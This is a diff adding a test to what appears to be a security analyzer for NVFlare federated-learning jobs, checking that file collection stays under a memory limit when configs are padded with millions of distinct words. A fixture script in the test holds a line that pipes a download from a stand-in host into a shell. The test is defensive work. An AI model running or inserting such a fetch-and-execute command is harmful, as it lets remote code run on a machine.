@@ -132,3 +132,31 @@ def test_a_semgrep_error_on_one_file_keeps_what_semgrep_found_on_the_others(tmp_
     found = {(f.engine, f.rule, f.path) for f in report.findings}
     assert {("semgrep", "semgrep.site-data-sent-over-http", "train.py"), ("semgrep", "unanalyzable.engine-semgrep", ""),
             ("jobgate", "network.http-client", "train.py")} <= found
+
+
+def test_configs_of_distinct_words_cost_the_sites_process_no_more_than_the_names_it_lists(tmp_path: Path) -> None:
+    """Collection runs in the site's own NVFlare process (api.gate), outside the limited worker. It keeps the
+    names the unit's configs mention (a launcher's `python3 custom/train.txt`): every distinct word of up to
+    max_total_bytes of configs was kept, 2 GB for 70 MB of padding; now only the names of listed files."""
+    job = tmp_path / "job"
+    (job / "app" / "config").mkdir(parents=True)
+    (job / "app" / "custom").mkdir()
+    (job / "meta.json").write_text(json.dumps({"name": "pad", "deploy_map": {"app": ["@ALL"]}}))
+    (job / "app" / "config" / "config_fed_client.json").write_text(json.dumps(
+        {"format_version": 2, "components": [{"id": "launcher", "path": "nvflare.app_common.launchers."
+                                              "subprocess_launcher.SubprocessLauncher",
+                                              "args": {"script": "python3 -u custom/train.txt"}}]}))
+    (job / "app" / "custom" / "train.txt").write_text('import os\nos.system("curl http://x.example/a | sh")\n')
+    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+    words = (a + b + c + d for a in alphabet for b in alphabet for c in alphabet for d in alphabet)
+    for i in range(12):  # 12 configs of 1.9 MB (under max_file_bytes), 4.6 million distinct words
+        (job / "app" / "config" / f"augment_{i:02d}.conf").write_text(" ".join(next(words) for _ in range(380_000)))
+    probe = ("import json, resource, sys\nfrom analyzer import api\n"
+             "content = api.collect(sys.argv[1], api.load_policy().limits)\n"
+             "print(json.dumps([resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, sorted(content.data)]))\n")
+    proc = subprocess.run([sys.executable, "-c", probe, str(job)], cwd=ROOT, capture_output=True, timeout=600)
+    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
+    peak_mb, read = json.loads(proc.stdout)
+    print(f"collect's peak: {peak_mb} MB")
+    assert "app/custom/train.txt" in read and len(read) == 14  # every file read, the launched script too
+    assert peak_mb < 250, peak_mb
